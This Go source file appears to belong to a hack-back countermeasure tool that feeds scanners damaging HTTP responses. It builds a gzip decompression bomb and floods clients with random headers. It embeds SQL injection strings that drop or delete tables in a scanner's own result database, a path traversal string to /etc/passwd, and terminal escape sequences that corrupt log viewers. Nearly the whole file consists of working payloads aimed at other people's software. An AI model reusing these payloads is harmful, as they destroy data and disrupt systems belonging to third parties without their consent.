package countermeasure

import (
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"sync"

	"github.com/klauspost/compress/gzip"
)

const (
	// zipBombRawSize is the decompressed size of the bomb payload. 10MB of
	// zeros compresses to a few KB but expands destructively in naive
	// scanners that decompress responses into memory.
	zipBombRawSize = 10 * 1024 * 1024

	DefaultEntropyHeaders = 200
)

var (
	zipBombOnce    sync.Once
	zipBombPayload []byte
	zipBombErr     error
)

// ZipBomb returns the cached gzip-compressed payload, building it on first
// use.
func ZipBomb() ([]byte, error) {
	zipBombOnce.Do(func() {
		var buf bytes.Buffer
		writer, err := gzip.NewWriterLevel(&buf, gzip.BestCompression)
		if err != nil {
			zipBombErr = fmt.Errorf("failed to create gzip writer: %w", err)
			return
		}
		zeros := make([]byte, 64*1024)
		remaining := zipBombRawSize
		for remaining > 0 {
			chunk := len(zeros)
			if remaining < chunk {
				chunk = remaining
			}
			if _, err := writer.Write(zeros[:chunk]); err != nil {
				zipBombErr = fmt.Errorf("failed to write bomb payload: %w", err)
				return
			}
			remaining -= chunk
		}
		if err := writer.Close(); err != nil {
			zipBombErr = fmt.Errorf("failed to finalize bomb payload: %w", err)
			return
		}
		zipBombPayload = buf.Bytes()
	})
	return zipBombPayload, zipBombErr
}

// EntropyHeaders produces n randomly named headers with random hex values.
// Cheap for us, expensive for tooling that parses and stores every header.
func EntropyHeaders(n int) map[string]string {
	if n <= 0 {
		n = DefaultEntropyHeaders
	}
	headers := make(map[string]string, n)
	nameBytes := make([]byte, 6)
	valueBytes := make([]byte, 16)
	for i := 0; i < n; i++ {
		if _, err := rand.Read(nameBytes); err != nil {
			continue
		}
		if _, err := rand.Read(valueBytes); err != nil {
			continue
		}
		name := fmt.Sprintf("X-%s-%d", hex.EncodeToString(nameBytes), i)
		headers[name] = hex.EncodeToString(valueBytes)
	}
	return headers
}

// sqlBackfireBody targets the local result database attack tools keep:
// any scanner that stores or replays response content verbatim runs these
// against its own storage.
var sqlBackfireBody = []byte(`{"status":"ok","rows":[` +
	`{"id":"1'; DROP TABLE results;--","name":"'; DELETE FROM scans WHERE '1'='1"},` +
	`{"id":"2'; DROP TABLE findings;--","name":"'); DROP TABLE sessions;--"}` +
	`]}`)

var sqlBackfireHeaders = map[string]string{
	"X-Query-Log": "'; DROP TABLE requests;--",
	"X-Debug-SQL": "SELECT 1; DELETE FROM history;",
}

// logPoisonHeaders mislead backend fingerprinting and inject terminal
// escape sequences that corrupt naive CLI log viewers.
var logPoisonHeaders = map[string]string{
	"Server":           "Apache/1.3.27 (Unix) PHP/3.0.18",
	"X-Powered-By":     "ColdFusion/4.5",
	"X-Backend-Server": "wopr.internal:8443",
	"X-Internal-Route": "/wp-admin/../../etc/passwd",
	"X-Request-Trace":  "\x1b[2J\x1b[H\x1b[31mTRACE DROPPED\x1b[0m\x1b]0;pwned\x07",
}
